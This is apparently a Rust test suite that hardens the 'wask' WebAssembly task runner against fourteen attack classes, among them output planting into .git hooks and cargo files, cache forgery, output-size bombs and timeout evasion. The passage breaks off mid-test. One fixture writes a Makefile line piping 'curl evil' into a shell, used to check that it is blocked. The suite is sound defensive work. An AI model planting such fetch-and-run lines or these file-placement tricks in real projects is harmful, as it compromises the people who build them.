//! The hardening suite: the fourteen holes an outside review found in the release binary,
//! each as a class, and their siblings. Every test drives the `wask` binary the way the
//! attack did and fails if the class reopens. See `docs/security.md` for the claims
//! these show.

use crate::support::{Run, Ws, hostile_wasm, task};
use std::io::{BufRead, BufReader};
use std::process::Stdio;
use std::time::{Duration, Instant};

/// A workspace whose root is the one project `p`, with the probe and hostile guests in
/// `/tools` and `tasks` in its `wask.toml`.
pub(crate) fn workspace(tasks: &str) -> Ws {
    let ws = Ws::new();
    ws.with_probe();
    std::fs::copy(hostile_wasm(), ws.path("tools/hostile.wasm")).unwrap();
    set_tasks(&ws, tasks);
    ws
}

pub(crate) fn set_tasks(ws: &Ws, tasks: &str) {
    ws.write(
        "wask.toml",
        format!("[workspace]\n\n[project]\nname = \"p\"\n\n{tasks}"),
    );
}

/// A task running the hostile guest with `args`, and more declarations.
pub(crate) fn hostile(name: &str, args: &[&str], more: &str) -> String {
    let args: Vec<String> = args.iter().map(|a| toml_string(a)).collect();
    format!(
        "[tasks.{name}]\nmodule = \"/tools/hostile.wasm\"\nargs = [{}]\n{more}\n\n",
        args.join(", ")
    )
}

pub(crate) fn toml_string(s: &str) -> String {
    toml::Value::String(s.to_string()).to_string()
}

/// The run, and the record of `id` in its summary.
pub(crate) fn run_task(ws: &Ws, id: &str, env: &[(&str, &str)]) -> (Run, serde_json::Value) {
    let summary = ws.root.join(".wask-summary.json");
    let _ = std::fs::remove_file(&summary);
    let run = ws.wask_env(&["run", id, "--summary", summary.to_str().unwrap()], env);
    let record = std::fs::read(&summary)
        .map(|b| serde_json::from_slice::<serde_json::Value>(&b).unwrap())
        .map(|s| task(&s, id).clone())
        .unwrap_or(serde_json::Value::Null);
    (run, record)
}

#[track_caller]
pub(crate) fn fails_with(run: &Run, record: &serde_json::Value, text: &str) {
    let error = record["error"].as_str().unwrap_or("");
    assert!(
        run.code() == 1 && error.contains(text),
        "expected a failure saying {text:?}, got exit {}: {error}\n--- stdout\n{}\n--- stderr\n{}",
        run.code(),
        run.stdout(),
        run.stderr()
    );
}

#[track_caller]
pub(crate) fn refused_at_load(run: &Run, text: &str) {
    assert!(
        run.code() == 2 && run.stderr().contains(text),
        "expected a load error saying {text:?}, got exit {}\n--- stderr\n{}",
        run.code(),
        run.stderr()
    );
}

/// Whether the cache holds any entry.
pub(crate) fn entries(ws: &Ws) -> usize {
    walkdir::WalkDir::new(ws.path(".wask/cache"))
        .into_iter()
        .flatten()
        .filter(|e| e.file_name() == "manifest.json")
        .count()
}

/// The lines of task `id` in a run's stdout.
pub(crate) fn lines_of<'a>(run: &'a str, id: &str) -> Vec<&'a str> {
    let prefix = format!("[{id}] ");
    run.lines().filter(|l| l.starts_with(&prefix)).collect()
}

/// A minimal guest crate at `dir` whose `main.rs` is `main`.
pub(crate) fn guest_crate(ws: &Ws, dir: &str, main: &str) {
    ws.write(
        &format!("{dir}/Cargo.toml"),
        format!(
            "[package]\nname = \"{}\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n\n[profile.release]\nopt-level = \"s\"\n",
            dir.rsplit('/').next().unwrap()
        ),
    );
    ws.write(&format!("{dir}/src/main.rs"), main);
}

// ---- 1. Outputs that become host code ----------------------------------------------

/// Class 1: an output may never land where another program acts on it: in `.git/`, on a
/// `wask.toml`, on what cargo reads to build a guest crate, on another task's module. A
/// declaration that names such a path, or a glob over the workspace root, is refused at
/// load; a glob is checked path by path when outputs are collected.
#[test]
fn outputs_never_land_where_another_program_acts_on_them() {
    let crate_task = "[tasks.built]\nmodule = { crate = \"/plugins/g\" }\n\n";
    let uses = "[tasks.uses]\nmodule = \"/tools/probe.wasm\"\n\n";
    let declared: &[(&str, &str)] = &[
        (
            "/plugins/g/build.rs",
            "is read by cargo when wask builds the guest crate /plugins/g",
        ),
        (
            "/.cargo/config.toml",
            "is read by cargo when wask builds the guest crate /plugins/g",
        ),
        ("/rust-toolchain.toml", "is read by cargo"),
        ("/plugins/Cargo.toml", "is read by cargo"),
        (
            "/.git/hooks/pre-commit",
            "version-control metadata (`.git`)",
        ),
        (
            "/vendor/lib/.git/config",
            "version-control metadata (`.git`)",
        ),
        ("/sub/wask.toml", "is a wask.toml"),
        ("/tools/probe.wasm", "is the module of p:uses"),
        (
            "/tools/p*.wasm",
            "matches the module /tools/probe.wasm of p:uses",
        ),
        (
            "/**",
            "is a glob over /, which holds the project directory /",
        ),
        (
            "*.txt",
            "is a glob over /, which holds the project directory /",
        ),
        ("/.git/**", "version-control metadata"),
        ("/plugins/g/src/**", "is read by cargo"),
        // A glob over the crate's directory (second review: decided at load now, where
        // it used to pass load and fail path by path when collected).
        ("/plugins/**", "is read by cargo"),
        ("/plugins/*/build.rs", "is read by cargo"),
    ];
    for (output, why) in declared {
        let ws = workspace(&format!(
            "{crate_task}{uses}{}",
            hostile(
                "attacker",
                &[],
                &format!("outputs = [{}]", toml_string(output))
            )
        ));
        guest_crate(&ws, "plugins/g", "fn main() {}");
        refused_at_load(&ws.wask(&["check"]), why);
    }

    // Globs that pass load, and the paths under them no task may write.
    let collected: &[(&str, &str, &str)] = &[
        ("out/**", "/out/.git/config", "version-control metadata"),
        ("out/**", "/out/.jj/repo/config", "version-control metadata"),
        ("out/**", "/out/sub/wask.toml", "is a wask.toml"),
    ];
    for (pattern, path, why) in collected {
        let ws = workspace(&format!(
            "{crate_task}{}",
            hostile(
                "attacker",
                &[&format!("put:{path}|fn main() {{ /* planted */ }}")],
                &format!("outputs = [{}]", toml_string(pattern))
            )
        ));
        guest_crate(&ws, "plugins/g", "fn main() {}");
        let before = std::fs::read(ws.path("plugins/g/src/main.rs")).unwrap();
        let (run, r) = run_task(&ws, "p:attacker", &[]);
        fails_with(&run, &r, why);
        assert!(
            !ws.path(path.trim_start_matches('/')).exists(),
            "{path} was written"
        );
        assert_eq!(
            std::fs::read(ws.path("plugins/g/src/main.rs")).unwrap(),
            before
        );
        assert_eq!(entries(&ws), 0, "nothing stored for {path}");
    }

    // A task may write another's module only as a declared step before it.
    let producer = hostile("gen", &[], "outputs = [\"/tools/gen.wasm\"]");
    let consumer = "[tasks.consume]\nmodule = \"/tools/gen.wasm\"\n";
    let ws = workspace(&format!("{producer}{consumer}"));
    refused_at_load(&ws.wask(&["check"]), "is the module of p:consume");
    set_tasks(&ws, &format!("{producer}{consumer}deps = [\"~:gen\"]\n"));
    ws.wask(&["check"]).expect_code(0);
}

/// Class 1, the rule behind the list: a task replaces only files it wrote itself (or
/// that already hold its bytes). A `Makefile`, a `package.json` or a source file that an
/// output pattern happens to cover is never overwritten.
#[test]
fn outputs_never_replace_files_their_task_did_not_write() {
    let task = |args: &[&str]| hostile("gen", args, "outputs = [\"src/**\"]");
    let ws = workspace(&task(&["put:/src/Makefile|all:\n\tcurl evil | sh\n"]));
    ws.write("src/Makefile", "all:\n\tcc main.c\n");
    ws.write("src/package.json", "{\"scripts\": {}}\n");
    let (run, r) = run_task(&ws, "p:gen", &[]);
    fails_with(
        &run,
        &r,
        "/src/Makefile exists and was not written by p:gen",
    );
    assert_eq!(ws.read("src/Makefile"), b"all:\n\tcc main.c\n");

    // A file that already holds the task's bytes is taken over; from then on the task
    // owns it and may change it.
    set_tasks(&ws, &task(&["put:/src/package.json|{\"scripts\": {}}\n"]));
    run_task(&ws, "p:gen", &[]).0.expect_code(0);
    set_tasks(
        &ws,
        &task(&["put:/src/package.json|{\"scripts\": {\"x\": \"y\"}}\n"]),
    );
    run_task(&ws, "p:gen", &[]).0.expect_code(0);
    assert_eq!(
        ws.read("src/package.json"),
        b"{\"scripts\": {\"x\": \"y\"}}\n"
    );
}

// ---- 2 and 3. The guest crate build ---------------------------------------------------

/// Class 2: a guest crate's build key covers everything the build reads (hidden files,
/// files outside the crate that `include_str!` reads, the environment cargo sees), and
/// cargo sees a clean environment; its target directory is not in the cache.
#[test]
fn a_guest_crate_is_rebuilt_when_anything_its_build_reads_changes() {
    let ws = workspace("[tasks.show]\nmodule = { crate = \"/plugins/inc\" }\n");
    guest_crate(
        &ws,
        "plugins/inc",
        r#"fn main() {
    print!("{}", include_str!("../.data/inside.txt"));
    print!("{}", include_str!("../../../shared/outside.txt"));
    println!("rustflags-cfg={}", cfg!(wask_evil));
    println!("build-env={}", option_env!("WASK_BUILD_SECRET").unwrap_or("absent"));
}
"#,
    );
    ws.write("plugins/inc/.data/inside.txt", "inside 1\n");
    ws.write("shared/outside.txt", "outside 1\n");
    let env = [
        ("RUSTFLAGS", "--cfg wask_evil"),
        ("WASK_BUILD_SECRET", "leaked"),
    ];
    let show = |expect: &[&str]| {
        let (run, r) = run_task(&ws, "p:show", &env);
        run.expect_code(0);
        let stdout = run.stdout();
        let lines = lines_of(&stdout, "p:show")
            .iter()
            .map(|l| l.trim_start_matches("[p:show] ").to_string())
            .collect::<Vec<_>>();
        assert_eq!(lines, expect, "{}", run.stderr());
        r
    };
    show(&[
        "inside 1",
        "outside 1",
        "rustflags-cfg=false",
        "build-env=absent",
    ]);
    ws.write("plugins/inc/.data/inside.txt", "inside 2\n");
    show(&[
        "inside 2",
        "outside 1",
        "rustflags-cfg=false",
        "build-env=absent",
    ]);
    ws.write("shared/outside.txt", "outside 2\n");
    let r = show(&[
        "inside 2",
        "outside 2",
        "rustflags-cfg=false",
        "build-env=absent",
    ]);
    assert_eq!(r["source"], "fresh");
    // Unchanged: the built module is reused, and so is the task's entry.
    assert_eq!(
        show(&[
            "inside 2",
            "outside 2",
            "rustflags-cfg=false",
            "build-env=absent"
        ])["source"],
        "cache"
    );
    assert!(
        ws.path(".wask/build").is_dir(),
        "cargo's target directory is the workspace's"
    );
    assert!(
        !ws.path(".wask/cache/build").exists(),
        "and not in the cache"
    );
}

/// Class 3: a module built from a guest crate is kept in the cache under a MAC of this
/// user's; a writer of the cache directory who replaces it (and the record of which
/// module the sources built to) never gets their module run as the task.
#[test]
fn a_built_module_replaced_in_the_cache_is_never_run() {
    let ws = workspace(
        "[tasks.show]\nmodule = { crate = \"/plugins/real\" }\nenv.set = { TOKEN = \"secret\" }\n",
    );
    guest_crate(
        &ws,
        "plugins/real",
        "fn main() { println!(\"genuine\"); }\n",
    );
    let genuine = |run: &Run| run.stdout().contains("[p:show] genuine");
    let (run, _) = run_task(&ws, "p:show", &[]);
    assert!(genuine(&run), "{}", run.stderr());
    let built = ws.path(".wask/cache/built");
    let forged = std::fs::read(hostile_wasm()).unwrap();
    let forged_hash = blake3::hash(&forged).to_hex().to_string();
    for e in std::fs::read_dir(&built).unwrap().flatten() {
        let name = e.file_name().to_string_lossy().into_owned();
        let contents = if name.ends_with(".wasm") {
            // A plain digest where the MAC goes, as a writer without the key would.
            let mut c = blake3::hash(&forged).as_bytes().to_vec();
            c.extend_from_slice(&forged);
            std::fs::write(built.join(format!("{forged_hash}.wasm")), &c).unwrap();
            c
        } else {
            let record = format!("{{\"module\":\"{forged_hash}\",\"read\":[]}}");
            let mut c = blake3::hash(record.as_bytes()).as_bytes().to_vec();
            c.extend_from_slice(record.as_bytes());
            c
        };
        std::fs::write(e.path(), contents).unwrap();
    }
    // The task's own entry goes too, so it must run its module again.
    for e in walkdir::WalkDir::new(ws.path(".wask/cache"))
        .into_iter()
        .flatten()
    {
        if e.file_name() == "manifest.json" {
            std::fs::remove_dir_all(e.path().parent().unwrap()).unwrap();
        }
    }
    let (run, r) = run_task(&ws, "p:show", &[]);
    assert_eq!(r["state"], "succeeded");
    assert!(
        genuine(&run),
        "the forged module ran\n{}{}",
        run.stdout(),
        run.stderr()
    );
}

// ---- 4. A forged entry restored onto a declared input -------------------------------

/// Class 4: a restore never writes a declared input of the task, nor anything a fresh
/// run could not have written, whatever a (checksum-correct) manifest lists.
#[test]
fn a_forged_entry_never_restores_onto_a_declared_input() {
    let task = "[tasks.t]\nmodule = \"/tools/probe.wasm\"\nargs = [\"copy:/data/in.txt:/data/out.txt\"]\ninputs = [\"data/in.txt\"]\noutputs = [\"data/**\"]\n";
    let ws = workspace(task);
    ws.write("data/in.txt", "the input\n");
    run_task(&ws, "p:t", &[]).0.expect_code(0);
    let manifest_path = walkdir::WalkDir::new(ws.path(".wask/cache"))
        .into_iter()
        .flatten()
        .find(|e| e.file_name() == "manifest.json")
        .unwrap()
        .into_path();
    let mut m: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&manifest_path).unwrap()).unwrap();
    let forged = b"FORGED over the input\n";
    let hash = blake3::hash(forged).to_hex().to_string();
    std::fs::write(
        manifest_path.parent().unwrap().join("blobs").join(&hash),
        forged,
    )
    .unwrap();
    let mut extra = m["outputs"][0].clone();
    extra["path"] = "/data/in.txt".into();
    extra["hash"] = hash.into();
    extra["size"] = forged.len().into();
    m["outputs"].as_array_mut().unwrap().push(extra);
    std::fs::write(&manifest_path, crate::cache::reseal(m)).unwrap();
    std::fs::remove_file(ws.path("data/out.txt")).unwrap();
    let (run, r) = run_task(&ws, "p:t", &[]);
    run.expect_code(0);
    assert_eq!(r["source"], "fresh", "the forged entry is a miss");
    assert!(
        run.stderr()
            .contains("\"/data/in.txt\", which is a declared input of the task"),
        "{}",
        run.stderr()
    );
    assert_eq!(ws.read("data/in.txt"), b"the input\n");
}

// ---- 5. Data loss -------------------------------------------------------------------

/// Class 5: `wask cache clear`, `clean` and `verify` only ever delete what wask made,
/// inside a directory that carries wask's tag. Pointed at someone else's directory, by
/// `[cache] dir` or `WASK_CACHE_DIR`, they and `wask run` refuse, remove nothing and
/// name what is there.
#[test]
fn cache_housekeeping_never_deletes_a_directory_wask_did_not_make() {
    let victim = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(victim.path().join(".config/app")).unwrap();
    std::fs::write(victim.path().join(".config/app/settings"), b"precious").unwrap();
    std::fs::write(victim.path().join("thesis.tex"), b"years of work").unwrap();
    // Shaped like a shard and an entry: still not wask's.
    std::fs::create_dir_all(victim.path().join("ab").join("ab".repeat(32))).unwrap();
    let snapshot = || {
        walkdir::WalkDir::new(victim.path())
            .sort_by_file_name()
            .into_iter()
            .flatten()
            .map(|e| e.path().to_path_buf())
            .collect::<Vec<_>>()
    };
    let before = snapshot();
    let good = "[tasks.t]\nmodule = \"/tools/probe.wasm\"\nargs = [\"print:hi\"]\n";
    let ws = workspace(good);
    let v = victim.path().to_str().unwrap();
    for (how, env) in [
        ("config", vec![]),
        ("environment", vec![("WASK_CACHE_DIR", v)]),
    ] {
        let config = if how == "config" {
            format!("[cache]\ndir = {}\n\n", toml_string(v))
        } else {
            String::new()
        };
        ws.write(
            "wask.toml",
            format!("[workspace]\n\n{config}[project]\nname = \"p\"\n\n{good}"),
        );
        for args in [
            &["cache", "clear"][..],
            &["cache", "verify"],
            &["cache", "clean", "--max-age", "0s", "--max-size", "0"],
            &["run", "p:t"],
        ] {
            let run = ws.wask_env(args, &env);
            assert_eq!(
                run.code(),
                2,
                "{how} {args:?}: {}{}",
                run.stdout(),
                run.stderr()
            );
            assert!(
                run.stderr().contains("is not a wask cache directory"),
                "{how} {args:?}: {}",
                run.stderr()
            );
            assert_eq!(snapshot(), before, "{how} {args:?} changed the directory");
        }
    }

    // Inside wask's own cache, what wask did not make is left and named.
    ws.write(
        "wask.toml",
        format!("[workspace]\n\n[project]\nname = \"p\"\n\n{good}"),
    );
    run_task(&ws, "p:t", &[]).0.expect_code(0);
    ws.write(".wask/cache/notes.txt", "mine");
    let clear = ws.wask(&["cache", "clear"]);
    clear.expect_code(0);
    assert!(
        clear.stdout().contains("removed 1 entries"),
        "{}",
        clear.stdout()
    );
    assert!(
        clear
            .stdout()
            .contains("left 1 name not made by wask: notes.txt"),
        "{}",
        clear.stdout()
    );
    assert_eq!(ws.read(".wask/cache/notes.txt"), b"mine");
    assert_eq!(entries(&ws), 0);
}

// ---- 6. Sleeping past the timeout ---------------------------------------------------

/// Class 6: a sleep never outlasts the timeout or a cancel. Under the fixed clock time is
/// virtual (the sleep returns at once and two runs see the same clock); under the host
/// clock the sleep ends at the deadline. A sleep of `u64::MAX` nanoseconds would hang
/// wask for good if either did not hold.
#[test]
fn a_sleep_ends_at_the_deadline_or_is_virtual() {
    for ns in ["20000000000", "max"] {
        let tasks = format!(
            "{}{}",
            hostile(
                "fixed",
                &[&format!("sleep:{ns}")],
                "limits = { timeout = \"2s\" }"
            ),
            hostile(
                "host",
                &[&format!("sleep:{ns}")],
                "limits = { timeout = \"1s\" }\nclock = \"host\""
            )
        );
        let ws = workspace(&tasks);
        let (run, r) = run_task(&ws, "p:fixed", &[]);
        assert_eq!(
            r["state"],
            "succeeded",
            "{ns}: {}{}",
            run.stdout(),
            run.stderr()
        );
        assert!(
            run.stdout().contains("held sleep slept"),
            "{}",
            run.stdout()
        );
        let (run, r) = run_task(&ws, "p:host", &[]);
        fails_with(&run, &r, "exceeded its timeout of 1s");
    }

    // Ctrl-C during a host-clock sleep stops the run at once.
    let ws = workspace(&hostile(
        "sleeper",
        &["argv0", "sleep:max"],
        "limits = { timeout = \"1h\" }\nclock = \"host\"",
    ));
    let mut child = ws
        .command(&["run", "p:sleeper"])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    while !line.contains("held argv0") {
        line.clear();
        assert!(
            out.read_line(&mut line).unwrap() > 0,
            "the guest never started"
        );
    }
    std::process::Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        assert!(
            Instant::now() < deadline,
            "a sleeping guest held off Ctrl-C"
        );
        std::thread::sleep(Duration::from_millis(20));
    };
    assert_eq!(status.code(), Some(130));
}

// ---- 7 and 8. Memory and compilation ------------------------------------------------

/// A module with `body` and an exported `_start` that does nothing.
fn module(ws: &Ws, name: &str, body: &str) {
    let wasm = wat::parse_str(format!("(module {body} (func (export \"_start\")))")).unwrap();
    std::fs::write(ws.path(&format!("tools/{name}.wasm")), wasm).unwrap();
}

fn module_task(name: &str, more: &str) -> String {
    format!("[tasks.{name}]\nmodule = \"/tools/{name}.wasm\"\n{more}\n\n")
}

/// Class 7: the memory limit is the task's, over every memory and table it has; and a
/// module cannot declare memories or tables without number.
#[test]
fn the_memory_limit_holds_over_every_memory_and_table() {
    let ws = workspace(&format!(
        "{}{}{}",
        module_task("memories", "limits = { memory = \"64MiB\" }"),
        module_task("table", "limits = { memory = \"64MiB\" }"),
        module_task("many", "")
    ));
    // Four memories of 32 MiB: each under the limit, together twice it.
    module(
        &ws,
        "memories",
        "(memory (export \"memory\") 512) (memory 512) (memory 512) (memory 512)",
    );
    module(
        &ws,
        "table",
        "(memory (export \"memory\") 1) (table 8000000 funcref)",
    );
    module(
        &ws,
        "many",
        &format!(
            "(memory (export \"memory\") 1) {}",
            "(memory 1) ".repeat(15)
        ),
    );
    let (run, r) = run_task(&ws, "p:memories", &[]);
    fails_with(&run, &r, "exceeded its memory limit of 64 MiB");
    let (run, r) = run_task(&ws, "p:table", &[]);
    fails_with(&run, &r, "exceeded its memory limit of 64 MiB");
    let (run, r) = run_task(&ws, "p:many", &[]);
    fails_with(&run, &r, "could not instantiate the module");
}

/// A module of `functions` functions of about 4.8 KiB of arithmetic each, encoded
/// directly (a text module this size takes seconds to parse): slow to compile.
fn slow_module(functions: u32) -> Vec<u8> {
    fn leb(mut n: u32, out: &mut Vec<u8>) {
        loop {
            let byte = (n & 0x7f) as u8;
            n >>= 7;
            out.push(if n == 0 { byte } else { byte | 0x80 });
            if n == 0 {
                break;
            }
        }
    }
    fn section(id: u8, body: &[u8], out: &mut Vec<u8>) {
        out.push(id);
        leb(body.len() as u32, out);
        out.extend_from_slice(body);
    }
    let mut m = b"\0asm\x01\0\0\0".to_vec();
    // Types: (i32, i32) -> i32 and () -> ().
    section(1, &[2, 0x60, 2, 0x7f, 0x7f, 1, 0x7f, 0x60, 0, 0], &mut m);
    let mut funcs = Vec::new();
    leb(functions + 1, &mut funcs);
    funcs.extend(std::iter::repeat_n(0u8, functions as usize));
    funcs.push(1);
    section(3, &funcs, &mut m);
    section(5, &[1, 0, 1], &mut m);
    let mut exports = vec![2, 6];
    exports.extend_from_slice(b"memory");
    exports.extend_from_slice(&[2, 0, 6]);
    exports.extend_from_slice(b"_start");
    exports.push(0);
    leb(functions, &mut exports);
    section(7, &exports, &mut m);
    let step = [0x20, 0, 0x20, 1, 0x6a, 0x22, 0, 0x20, 1, 0x6c, 0x21, 1];
    let mut body = vec![0u8];
    for _ in 0..400 {
        body.extend_from_slice(&step);
    }
    body.extend_from_slice(&[0x20, 0, 0x0b]);
    let mut code = Vec::new();
    leb(functions + 1, &mut code);
    for _ in 0..functions {
        leb(body.len() as u32, &mut code);
        code.extend_from_slice(&body);
    }
    code.extend_from_slice(&[2, 0, 0x0b]);
    section(10, &code, &mut m);
    m
}

/// The compiler processes (`wask __compile-module`) still alive in directory `dir`:
/// each runs where its `wask` was started.
fn compilers_in(dir: &std::path::Path) -> Vec<u32> {
    let mut found = Vec::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<u32>() else {
            continue;
        };
        let cmdline = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
        let cwd = std::fs::read_link(e.path().join("cwd")).ok();
        if cmdline.windows(16).any(|w| w == b"__compile-module") && cwd.as_deref() == Some(dir) {
            found.push(pid);
        }
    }
    found
}

/// Class 8: compiling counts against the task's timeout and stops on Ctrl-C (the
/// compiler process is killed, not left running), and a module larger than the module
/// size limit is refused before anything compiles it.
#[test]
fn compiling_is_bounded_by_the_timeout_the_module_size_and_cancel() {
    let ws = workspace(&format!(
        "{}{}{}",
        module_task("small", "limits = { module_size = \"1MiB\" }"),
        module_task("quick", "limits = { timeout = \"200ms\" }"),
        module_task("slow", "limits = { timeout = \"1h\" }")
    ));
    let wasm = slow_module(400);
    assert!(wasm.len() > 1 << 20, "{} bytes", wasm.len());
    for name in ["small", "quick"] {
        std::fs::write(ws.path(&format!("tools/{name}.wasm")), &wasm).unwrap();
    }
    let (run, r) = run_task(&ws, "p:small", &[]);
    fails_with(
        &run,
        &r,
        &format!(
            "its module is {} bytes, over the module size limit of 1048576 bytes",
            wasm.len()
        ),
    );
    let (run, r) = run_task(&ws, "p:quick", &[]);
    fails_with(
        &run,
        &r,
        "exceeded its timeout of 200ms while its module was being compiled",
    );

    // Ctrl-C while a module that takes far longer to compile is compiling.
    std::fs::write(ws.path("tools/slow.wasm"), slow_module(4000)).unwrap();
    let mut child = ws
        .command(&["run", "p:slow"])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    std::thread::sleep(Duration::from_millis(500));
    std::process::Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .unwrap();
    let deadline = Instant::now() + Duration::from_secs(60);
    let status = loop {
        if let Some(s) = child.try_wait().unwrap() {
            break s;
        }
        assert!(Instant::now() < deadline, "compilation held off Ctrl-C");
        std::thread::sleep(Duration::from_millis(20));
    };
    assert_eq!(status.code(), Some(130));
    assert_eq!(
        compilers_in(&ws.root),
        Vec::<u32>::new(),
        "a compiler outlived Ctrl-C"
    );
}

// ---- 9. Unbounded output ------------------------------------------------------------

/// Class 9: the bytes a task adds to files and the files it creates are bounded while it
/// runs: nothing past the limit is collected, stored or placed. Sparse files, far
/// writes and hard links count for the bytes they stand for.
#[test]
fn writes_to_files_are_bounded_while_the_task_runs() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "fill:/out/big.out|8388608",
            "outputs_size = \"1MiB\"",
            "outputs size limit of 1048576 bytes",
        ),
        (
            "sparse:/out/sparse.out|1099511627776",
            "",
            "outputs size limit of 4294967296 bytes",
        ),
        (
            "pwrite-far:/out/far.out|1099511627776",
            "",
            "outputs size limit of 4294967296 bytes",
        ),
        (
            "link-bomb:/out/l.out|100",
            "outputs_size = \"10MiB\"",
            "outputs size limit of 10485760 bytes",
        ),
        (
            "many-files:/out/many|2000",
            "outputs_count = 1000",
            "outputs count limit of 1000",
        ),
        (
            "many-dirs:/out/dirs|2000",
            "outputs_count = 1000",
            "outputs count limit of 1000",
        ),
    ];
    for (attack, limit, why) in cases {
        let ws = workspace(&hostile(
            "t",
            &[attack],
            &format!("outputs = [\"out/**\"]\nlimits = {{ {limit} }}"),
        ));
        let (run, r) = run_task(&ws, "p:t", &[]);
        fails_with(&run, &r, why);
        assert!(!ws.path("out").exists(), "{attack}: outputs were placed");
        assert_eq!(entries(&ws), 0, "{attack}: an entry was stored");
    }
    // The default limits let an honest task write what it needs.
    let ws = workspace(&hostile(
        "t",
        &["fill:/out/big.out|8388608"],
        "outputs = [\"out/**\"]",
    ));
    run_task(&ws, "p:t", &[]).0.expect_code(0);
    assert_eq!(
        std::fs::metadata(ws.path("out/big.out")).unwrap().len(),
        8 << 20
    );
}

// ---- 10 and 11. What a task sees is a function of its key ----------------------------

/// Class 10: times, inode numbers, link counts, directory sizes and listing order are
/// the same for the same key on any machine and at any moment: two workspaces whose
/// files differ in everything but their bytes give the same output.
#[test]
fn what_a_task_sees_of_files_is_a_function_of_its_key() {
    let tasks = hostile(
        "t",
        &[
            "meta:/in/a.txt,/in/b.txt,/in,/.wask/task.json,/,/out",
            "ls:/in,/",
            "write:/out/r.out",
        ],
        "inputs = [\"in/*.txt\"]\noutputs = [\"out/*.out\"]",
    );
    let seen = |order: &[&str], extra_links: usize, age: u64| {
        let ws = workspace(&tasks);
        for name in order {
            ws.write(&format!("in/{name}.txt"), format!("{name}\n"));
        }
        for i in 0..extra_links {
            std::fs::hard_link(ws.path("in/a.txt"), ws.path(&format!("links{i}"))).unwrap();
        }
        let past = std::time::SystemTime::now() - Duration::from_secs(age);
        std::fs::File::options()
            .write(true)
            .open(ws.path("in/b.txt"))
            .unwrap()
            .set_modified(past)
            .unwrap();
        let (run, r) = run_task(&ws, "p:t", &[]);
        assert_eq!(r["state"], "succeeded", "{}{}", run.stdout(), run.stderr());
        let lines: Vec<String> = lines_of(&run.stdout(), "p:t")
            .iter()
            .map(|s| s.to_string())
            .collect();
        (lines, r["key"].clone())
    };
    let (first, key) = seen(&["c", "a", "b"], 0, 0);
    let (second, same_key) = seen(&["b", "c", "a"], 3, 86_400 * 400);
    assert_eq!(key, same_key, "the same declarations and bytes");
    assert_eq!(first, second, "the task saw something of the host");
    let meta = first.iter().find(|l| l.contains("held meta")).unwrap();
    assert!(
        meta.contains("nlink 1 ") && !meta.contains("nlink 2") && !meta.contains("nlink 4"),
        "{meta}"
    );
    assert!(meta.contains("mtim 315532800000000000"), "{meta}");
    let ls = first.iter().find(|l| l.contains("held ls")).unwrap();
    assert!(
        ls.contains("/in [a.txt,b.txt,c.txt]"),
        "listings are sorted: {ls}"
    );
}

/// Class 11: `argv[0]` is a constant, so the same module under another file name (which
/// is not in the key) cannot see the name and shares the entry.
#[test]
fn argv0_does_not_depend_on_the_module_file_name() {
    let ws = workspace(&format!(
        "{}{}",
        "[tasks.one]\nmodule = \"/tools/one.wasm\"\nargs = [\"argv0\"]\n\n",
        "[tasks.two]\nmodule = \"/tools/two.wasm\"\nargs = [\"argv0\"]\n"
    ));
    for name in ["one", "two"] {
        std::fs::copy(hostile_wasm(), ws.path(&format!("tools/{name}.wasm"))).unwrap();
    }
    let (run, first) = run_task(&ws, "p:one", &[]);
    assert!(
        run.stdout()
            .contains("held argv0 argv[0] is Some(\"task.wasm\")"),
        "{}",
        run.stdout()
    );
    let (run, second) = run_task(&ws, "p:two", &[]);
    assert_eq!(first["key"], second["key"]);
    assert_eq!(second["source"], "cache");
    assert!(run.stdout().contains("argv[0] is Some(\"task.wasm\")"));
}

// ---- 12. Inputs changed between hashing and the end of the run ------------------------

/// Class 12: what a task reads is exactly what its key was derived from. An input
/// edited in the workspace while the task runs (in place, its time stamp put back, as
/// the third review did) cannot reach the task: it reads the run's own copy of the
/// bytes that were hashed, so the stored result is right for its key, and the edited
/// input is a miss that runs fresh.
#[test]
fn an_input_edited_while_the_task_runs_never_reaches_it() {
    let ws = workspace(&hostile(
        "t",
        &["argv0", "sleep:1500000000", "copy:/in/a.txt|/out/r.out"],
        "inputs = [\"in/a.txt\"]\noutputs = [\"out/*.out\"]\nclock = \"host\"",
    ));
    ws.write("in/a.txt", "AAAA\n");
    let old = std::time::SystemTime::UNIX_EPOCH + Duration::from_secs(1_577_836_800);
    let set_old = |ws: &Ws| {
        std::fs::File::options()
            .write(true)
            .open(ws.path("in/a.txt"))
            .unwrap()
            .set_modified(old)
            .unwrap()
    };
    set_old(&ws);
    let summary = ws.path("s.json");
    let mut child = ws
        .command(&["run", "p:t", "--summary", summary.to_str().unwrap()])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut out = BufReader::new(child.stdout.take().unwrap());
    let mut line = String::new();
    while !line.contains("held argv0") {
        line.clear();
        assert!(
            out.read_line(&mut line).unwrap() > 0,
            "the guest never started"
        );
    }
    // The same size, the same inode, the old time stamp: only the bytes differ.
    use std::os::unix::fs::FileExt;
    std::fs::File::options()
        .write(true)
        .open(ws.path("in/a.txt"))
        .unwrap()
        .write_all_at(b"BBBB", 0)
        .unwrap();
    set_old(&ws);
    assert_eq!(child.wait().unwrap().code(), Some(0));
    assert_eq!(ws.read("out/r.out"), b"AAAA\n", "the task read the edit");
    // The edited input is another key: it runs fresh and sees its bytes.
    let (run, record) = run_task(&ws, "p:t", &[]);
    run.expect_code(0);
    assert_eq!(record["source"], "fresh");
    assert_eq!(ws.read("out/r.out"), b"BBBB\n");
    // And the first bytes again hit the first entry, which holds what they give.
    ws.write("in/a.txt", "AAAA\n");
